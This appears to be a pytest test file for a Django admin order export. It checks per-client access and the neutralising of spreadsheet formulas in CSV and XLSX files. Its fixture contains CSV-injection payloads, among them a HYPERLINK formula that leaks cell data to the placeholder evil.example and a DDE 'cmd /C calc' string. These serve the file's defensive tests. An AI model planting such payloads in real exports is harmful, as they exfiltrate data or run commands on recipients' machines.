"""The order export (admin, django-import-export): only the user's clients' orders, and every
text cell that a spreadsheet would run as a formula is neutralised, in CSV and in XLSX."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.urls import reverse

from clients.models import Membership
from orders import services
from orders.models import Order
from orders.resources import OrderExportResource, neutralise_formula
from tests.orders.import_files import read_csv

pytestmark = pytest.mark.django_db

EXPORT_URL = "admin:orders_order_export"
FIELDS = list(OrderExportResource._meta.fields)
CSV_FORMAT, XLSX_FORMAT = "0", "1"

# (customer name in the database, what the export must show)
DANGEROUS = [
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    ),
    ("+SUM(1,2)", "'+SUM(1,2)"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Ann = Bob + Co", "Ann = Bob + Co"),  # a trigger inside the text is harmless
]


@pytest.fixture
def orders(make_client, make_warehouse, make_product, make_customer, make_order):
    acme, nord = make_client("ACME"), make_client("NORD")
    east = make_warehouse("EAST")
    lamp = make_product(acme, "LAMP", stock={east: 50})
    nord_lamp = make_product(nord, "NLAMP", stock={east: 5})
    made = {}
    for i, (name, _) in enumerate(DANGEROUS):
        customer = make_customer(acme, name=name, email=f"c{i}@example.com")
        made[name] = make_order(acme, [(lamp, 1)], number=f"A-{i}", customer=customer)
    formula_number = make_order(
        acme,
        [(lamp, 1)],
        number="=1+2",
        customer=make_customer(acme, name="Number Trick", email="=cmd@example.com"),
    )
    Order.objects.filter(pk=formula_number.pk).update(
        delay_reason="-carrier late", ship_to_city="@Town", ship_to_name="+Rick"
    )
    make_order(nord, [(nord_lamp, 1)], number="N-1", customer=make_customer(nord, name="Nord Co"))
    return acme, nord


def post_export(client, file_format: str, query: str = ""):
    data = {"format": file_format, "resource": "0"}
    data.update({f"orderexportresource_{name}": "on" for name in FIELDS})
    return client.post(reverse(EXPORT_URL) + query, data)


def test_the_export_form_opens_for_an_agent(orders, make_user, client):
    acme, _ = orders
    client.force_login(make_user(clients=[acme], role=Membership.Role.AGENT))

    response = client.get(reverse(EXPORT_URL))

    assert response.status_code == 200
    page = response.content.decode()
    assert '<option value="0">csv</option>' in page
    assert '<option value="1">xlsx</option>' in page
    assert 'name="orderexportresource_customer_name"' in page


def test_csv_export_has_only_the_users_clients_and_neutralises_formulas(orders, make_user, client):
    acme, _ = orders
    client.force_login(make_user(clients=[acme], role=Membership.Role.AGENT))

    response = post_export(client, CSV_FORMAT)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="Order-')
    rows = read_csv(response.content)
    assert rows[0] == FIELDS
    by_number = {row[0]: dict(zip(FIELDS, row, strict=True)) for row in rows[1:]}
    assert set(by_number) == {f"A-{i}" for i in range(len(DANGEROUS))} | {"'=1+2"}
    assert {r["client"] for r in by_number.values()} == {"ACME"}
    for i, (_, shown) in enumerate(DANGEROUS):
        assert by_number[f"A-{i}"]["customer_name"] == shown
    trick = by_number["'=1+2"]
    assert (
        trick["customer_name"],
        trick["customer_email"],
        trick["delay_reason"],
        trick["ship_to_city"],
        trick["ship_to_name"],
    ) == ("Number Trick", "'=cmd@example.com", "'-carrier late", "'@Town", "'+Rick")
    assert b"Nord Co" not in response.content and b"N-1" not in response.content


def test_xlsx_export_has_only_the_users_clients_and_no_formula_cells(orders, make_user, client):
    acme, _ = orders
    client.force_login(make_user(clients=[acme], role=Membership.Role.SUPERVISOR))

    response = post_export(client, XLSX_FORMAT)

    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == FIELDS
    assert not [c.coordinate for row in rows for c in row if c.data_type == "f"]
    by_number = {
        row[0].value: {f: c.value for f, c in zip(FIELDS, row, strict=True)} for row in rows[1:]
    }
    assert set(by_number) == {f"A-{i}" for i in range(len(DANGEROUS))} | {"'=1+2"}
    assert {r["client"] for r in by_number.values()} == {"ACME"}
    for i, (_, shown) in enumerate(DANGEROUS):
        # XML reads a bare CR back as LF; the apostrophe in front is what matters
        assert by_number[f"A-{i}"]["customer_name"] == shown.replace("\r", "\n")
    trick = by_number["'=1+2"]
    assert (trick["customer_email"], trick["delay_reason"], trick["ship_to_city"]) == (
        "'=cmd@example.com",
        "'-carrier late",
        "'@Town",
    )
    order = Order.objects.get(number="A-0")
    assert by_number["A-0"]["priority_score"] == order.priority_score


def test_export_of_a_user_with_another_client_shows_only_that_client(orders, make_user, client):
    _, nord = orders
    client.force_login(make_user(clients=[nord], role=Membership.Role.AGENT))

    rows = read_csv(post_export(client, CSV_FORMAT).content)

    assert [(r[0], r[1], r[2]) for r in rows[1:]] == [("N-1", "NORD", "Nord Co")]


def test_export_follows_the_queue_filter(orders, make_user, client):
    acme, _ = orders
    services.order_cancel(order=Order.objects.get(number="A-1"), reason="test")
    client.force_login(make_user(clients=[acme], role=Membership.Role.AGENT))

    open_only = {r[0] for r in read_csv(post_export(client, CSV_FORMAT).content)[1:]}
    everything = {r[0] for r in read_csv(post_export(client, CSV_FORMAT, "?queue=all").content)[1:]}

    assert "A-1" not in open_only
    assert everything - open_only == {"A-1"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("x=1", "x=1"),
        ("", ""),
        (" =1", " =1"),
        (-5, -5),
        (None, None),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected
